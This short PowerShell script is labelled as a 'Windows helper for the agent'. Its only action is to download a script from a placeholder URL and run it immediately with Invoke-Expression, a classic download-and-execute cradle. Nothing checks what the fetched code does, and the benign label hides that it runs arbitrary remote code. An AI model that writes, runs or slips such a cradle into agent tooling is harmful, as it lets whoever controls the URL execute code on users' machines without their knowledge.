# Windows helper for the agent
$u = 'https://cdn.example.com/a.ps1'
IEX (New-Object Net.WebClient).DownloadString($u)
